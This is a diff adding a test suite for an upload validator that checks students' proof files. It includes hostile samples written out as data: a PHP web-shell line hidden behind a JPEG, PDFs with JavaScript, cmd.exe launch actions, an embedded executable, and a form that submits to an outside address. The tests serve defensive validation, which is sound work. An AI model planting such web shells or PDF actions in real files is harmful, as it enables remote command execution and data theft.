@@ -1,0 +1,149 @@
+import { PDFHexString, PDFName, PDFString } from '@cantoo/pdf-lib';
+import sharp from 'sharp';
+import { FIVE_MB, openCabinet, refusalOf, sent } from './cabinet';
+import { certificate, handWrittenPdf, iphonePhoto, padded, pdfMadeBy, pictureBomb, studentCard, wordFile } from './papers';
+
+const cabinet = openCabinet();
+let count = 0;
+
+async function refused(file: Buffer): Promise<unknown> {
+  count += 1;
+  return refusalOf(cabinet.proofs.receive(`hostile-${count}`, sent(file), { maxBytes: FIVE_MB }));
+}
+
+afterAll(() => cabinet.empty());
+afterEach(() => expect(cabinet.files().filter((path) => !path.startsWith('accepted'))).toEqual([]));
+
+describe('what is not a proof', () => {
+  it('an empty file', async () => {
+    expect(await refused(Buffer.alloc(0))).toMatchObject({ code: 'file-empty' });
+  });
+
+  it('one byte more than 5 MiB', async () => {
+    const file = padded(await studentCard(), FIVE_MB + 1);
+    expect(await refused(file)).toEqual({ code: 'file-too-big', detail: { limit: 5_242_880 } });
+  });
+
+  it.each([
+    ['a Word file', wordFile(), 'docx'],
+    ['a photo of an iPhone', iphonePhoto(), 'heic'],
+    ['a page of text', Buffer.from('Je suis étudiante, promis.'), 'unknown'],
+    ['a program', Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(100)]), 'elf'],
+  ])('%s', async (_what, file, kind) => {
+    expect(await refused(file)).toEqual({ code: 'file-type-not-accepted', detail: { kind } });
+  });
+
+  it('a picture in the wrong clothes: what counts is what it is', async () => {
+    const webp = await sharp(await studentCard())
+      .webp()
+      .toBuffer();
+    expect(await refused(webp)).toEqual({ code: 'file-type-not-accepted', detail: { kind: 'webp' } });
+  });
+});
+
+describe('pictures', () => {
+  it('a photo that was cut off on the way', async () => {
+    const photo = await studentCard();
+    expect(await refused(photo.subarray(0, photo.length >> 1))).toEqual({ code: 'file-damaged', detail: { why: 'unreadable' } });
+  });
+
+  it('a header that claims 30,000 by 30,000 pixels', async () => {
+    expect(await refused(pictureBomb())).toMatchObject({ code: 'image-too-large', detail: { limit: 40e6, width: 30_000 } });
+  });
+
+  it('a photo with a script behind it is shown without the script', async () => {
+    const file = Buffer.concat([await studentCard(), Buffer.from('<?php system($_GET["c"]); ?>')]);
+    await cabinet.proofs.receive('accepted-polyglot', sent(file), { maxBytes: FIVE_MB });
+    const { content } = await cabinet.proofs.rendered('accepted-polyglot');
+    expect(content.includes('<?php')).toBe(false);
+    expect((await sharp(content).metadata()).format).toBe('jpeg');
+  });
+});
+
+describe('PDFs', () => {
+  it('with a password to open it', async () => {
+    expect(await refused(await certificate(1, { userPassword: 'sésame', ownerPassword: 'patron' }))).toMatchObject({ code: 'pdf-locked' });
+  });
+
+  it('with a password that forbids printing', async () => {
+    expect(await refused(await certificate(1, { ownerPassword: 'patron', permissions: {} }))).toMatchObject({ code: 'pdf-locked' });
+  });
+
+  it('that is garbage behind its first line', async () => {
+    expect(await refused(Buffer.from(`%PDF-1.7\n${'garbage '.repeat(500)}`))).toEqual({
+      code: 'file-damaged',
+      detail: { why: 'unreadable' },
+    });
+  });
+
+  it('that was cut off on the way', async () => {
+    const paper = await certificate(2);
+    expect(await refused(paper.subarray(0, 300))).toMatchObject({ code: 'file-damaged' });
+  });
+
+  it('with a script of the document', async () => {
+    const file = await pdfMadeBy((document) => document.addJavaScript('hello', 'app.alert(1)'));
+    expect(await refused(file)).toMatchObject({ code: 'pdf-active' });
+  });
+
+  it('with a file in it', async () => {
+    const file = await pdfMadeBy((document) => document.attach(Buffer.from('MZ'), 'setup.exe', { mimeType: 'application/octet-stream' }));
+    expect(await refused(file)).toMatchObject({ code: 'pdf-active' });
+  });
+
+  it('with an action behind a link, in a compressed object', async () => {
+    const file = await pdfMadeBy((document) => {
+      const action = document.context.obj({ S: 'JavaScript', JS: PDFHexString.fromText('app.alert(1)') });
+      document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: action }));
+    });
+    expect(file.includes('JavaScript')).toBe(false);
+    expect(await refused(file)).toEqual({ code: 'pdf-active', detail: { found: 'JS' } });
+  });
+
+  it.each([
+    ['a program to launch', '/OpenAction 4 0 R', '4 0 obj << /S /Launch /F (cmd.exe) >> endobj', 'OpenAction'],
+    ['a program behind a link', '/Names << >>', '4 0 obj << /Type /Annot /A << /S /Launch /F (cmd.exe) >> >> endobj', 'Launch'],
+    ['a script in disguise', '', '4 0 obj << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> endobj', 'JS'],
+    ['an address called at opening', '/OpenAction << /S /URI /URI (https://tracker.example/) >>', '', 'OpenAction'],
+    ['a form sent elsewhere', '', '4 0 obj << /S /SubmitForm /F (https://tracker.example/) >> endobj', 'SubmitForm'],
+  ])('with %s', async (_what, catalog, more, found) => {
+    expect(await refused(handWrittenPdf(catalog, more))).toEqual({ code: 'pdf-active', detail: { found } });
+  });
+
+  it.each([
+    ['opens at its first page', '/OpenAction [3 0 R /FitH 842]'],
+    ['opens by an action that only turns to a page', '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'],
+  ])('that %s are papers like any other', async (what, catalog) => {
+    const id = `accepted-${what.length}-pages`;
+    expect(await cabinet.proofs.receive(id, sent(handWrittenPdf(catalog)), { maxBytes: FIVE_MB })).toMatchObject({ kind: 'pdf', pages: 1 });
+  });
+
+  it('that a link leads out of are papers too', async () => {
+    const file = await pdfMadeBy((document) => {
+      const link = {
+        Type: 'Annot',
+        Subtype: 'Link',
+        Rect: [0, 0, 9, 9],
+        A: { S: 'URI', URI: PDFString.of('https://univ-valcour.example/') },
+      };
+      document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([link]));
+    });
+    expect(await cabinet.proofs.receive('accepted-link', sent(file), { maxBytes: FIVE_MB })).toMatchObject({ pages: 1 });
+  });
+});
+
+describe('an inspection', () => {
+  it('that takes too long is ended', async () => {
+    const hurried = cabinet.reopen({ inspection: { milliseconds: 1 } });
+    const work = hurried.receive('hostile-slow', sent(await studentCard()), { maxBytes: FIVE_MB });
+    expect(await refusalOf(work)).toEqual({ code: 'file-damaged', detail: { why: 'time' } });
+  });
+
+  it('that needs too much memory is ended', async () => {
+    const large = await sharp({ create: { width: 6000, height: 6000, channels: 3, background: '#ffffff' } })
+      .png()
+      .toBuffer();
+    const poor = cabinet.reopen({ inspection: { megabytes: 140 } });
+    expect(await refusalOf(poor.receive('hostile-large', sent(large), { maxBytes: FIVE_MB }))).toMatchObject({ code: 'file-damaged' });
+  });
+});
